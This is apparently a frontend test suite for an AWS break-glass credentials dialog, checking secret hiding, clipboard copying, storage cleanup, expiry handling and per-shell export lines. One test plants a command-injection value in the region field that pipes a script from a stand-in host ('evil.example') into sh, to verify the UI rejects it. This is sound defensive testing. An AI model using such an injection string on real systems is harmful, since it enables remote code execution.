import { screen, waitFor } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import {
  account,
  issuedCredentials,
  SECRET,
  standingRole,
  TOKEN,
} from '../../__testUtils__/accounts';
import { renderPlugin } from '../../__testUtils__/render';
import { Refusal, testBackend } from '../../__testUtils__/server';
import { StandingButtons } from '../AccountTab/StandingButtons';

const backend = testBackend();

async function getCredentials() {
  const result = await renderPlugin(
    <StandingButtons account={account()} role={standingRole()} />,
  );
  await userEvent.click(
    screen.getByRole('button', { name: 'Credentials: Read only' }),
  );
  await userEvent.click(
    await screen.findByRole('button', { name: 'Get credentials' }),
  );
  return result;
}
const everything = () => document.documentElement.outerHTML;

describe('CredentialsDialog', () => {
  it('hides the secrets until the person asks for them', async () => {
    backend.on('createStandingSession', issuedCredentials());
    await getCredentials();
    const show = await screen.findByRole('button', { name: 'Show' });
    expect(everything()).not.toContain(SECRET);
    expect(everything()).not.toContain(TOKEN);
    await userEvent.click(show);
    expect(
      screen.getByRole('region', { name: 'Lines for your shell' }),
    ).toHaveTextContent(`export AWS_SECRET_ACCESS_KEY='${SECRET}'`);
    await userEvent.click(screen.getByRole('button', { name: 'Hide' }));
    expect(everything()).not.toContain(SECRET);
  });

  it('copies without showing', async () => {
    backend.on('createStandingSession', issuedCredentials());
    const user = userEvent.setup();
    const writeText = jest.spyOn(navigator.clipboard, 'writeText');
    await getCredentials();
    await user.click(await screen.findByRole('button', { name: 'Copy' }));
    expect(writeText).toHaveBeenCalledWith(expect.stringContaining(SECRET));
    expect(everything()).not.toContain(SECRET);
  });

  it('I10: credentials are gone after closing, and were in no browser storage', async () => {
    backend.on('createStandingSession', issuedCredentials());
    await getCredentials();
    await userEvent.click(await screen.findByRole('button', { name: 'Show' }));
    const stored = JSON.stringify([{ ...localStorage }, { ...sessionStorage }]);
    expect(stored).not.toContain(SECRET);
    expect(stored).not.toContain(TOKEN);
    expect(stored).not.toContain('ASIAEXAMPLEEXAMPLE01');
    await userEvent.click(screen.getByRole('button', { name: 'Close' }));
    await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull());
    expect(everything()).not.toContain(SECRET);
    await userEvent.click(
      screen.getByRole('button', { name: 'Credentials: Read only' }),
    );
    expect(
      await screen.findByRole('button', { name: 'Get credentials' }),
    ).toBeInTheDocument();
    expect(screen.queryByRole('button', { name: 'Show' })).toBeNull();
  });

  it('asks for the role of the card', async () => {
    backend.on('createStandingSession', issuedCredentials());
    await getCredentials();
    await screen.findByRole('button', { name: 'Show' });
    const [call] = backend.seen('createStandingSession');
    expect(call.params).toEqual({
      kind: 'resource',
      namespace: 'default',
      name: 'payroll',
    });
    expect(call.body).toEqual({ type: 'credentials', roleId: 'read-only' });
  });

  it('pitfall 32: shows and copies nothing where a value has no place in a shell line', async () => {
    const issued: any = issuedCredentials();
    issued.region = "x'; curl evil.example | sh; '";
    backend.on('createStandingSession', issued);
    await getCredentials();
    expect(await screen.findByText(/\(region\)/)).toBeInTheDocument();
    expect(screen.queryByRole('button', { name: 'Copy' })).toBeNull();
    expect(everything()).not.toContain('evil.example');
  });

  it('drops credentials that have expired', async () => {
    const issued: any = issuedCredentials();
    issued.session.expiresAt = new Date(Date.now() - 1_000).toISOString();
    backend.on('createStandingSession', issued);
    await getCredentials();
    expect(
      await screen.findByText(/have expired and were dropped/),
    ).toBeInTheDocument();
    expect(screen.queryByRole('button', { name: 'Show' })).toBeNull();
  });

  it('says that nothing was issued when AWS does not answer', async () => {
    backend.on(
      'createStandingSession',
      new Refusal(503, 'aws-unavailable', 'STS did not answer'),
    );
    await getCredentials();
    const alert = await screen.findByRole('alert');
    expect(alert).toHaveTextContent('STS did not answer');
    expect(alert).toHaveTextContent('Nothing was issued');
  });

  it.each([
    ['fish', "set -gx AWS_REGION 'eu-central-1'"],
    ['PowerShell', "$Env:AWS_REGION = 'eu-central-1'"],
    ['Windows cmd', 'set "AWS_REGION=eu-central-1"'],
  ])('has lines for %s', async (tab, line) => {
    backend.on('createStandingSession', issuedCredentials());
    await getCredentials();
    await userEvent.click(await screen.findByRole('tab', { name: tab }));
    await userEvent.click(screen.getByRole('button', { name: 'Show' }));
    expect(
      screen.getByRole('region', { name: 'Lines for your shell' }),
    ).toHaveTextContent(line);
  });

  it('says how the AWS CLI gets them by itself, before and after', async () => {
    backend.on('createStandingSession', issuedCredentials());
    await renderPlugin(
      <StandingButtons account={account()} role={standingRole()} />,
    );
    await userEvent.click(
      screen.getByRole('button', { name: 'Credentials: Read only' }),
    );
    const lines = () =>
      screen.getByRole('region', { name: 'Commands for a terminal' });
    expect(lines()).toHaveTextContent(
      /break-glass login --portal http:\/\/localhost:7007 break-glass configure resource:default\/payroll$/,
    );
    await userEvent.click(
      screen.getByRole('button', { name: 'Get credentials' }),
    );
    await userEvent.click(
      await screen.findByRole('tab', { name: 'break-glass command' }),
    );
    expect(lines()).toHaveTextContent('break-glass configure');
    expect(everything()).not.toContain(SECRET);
  });
});
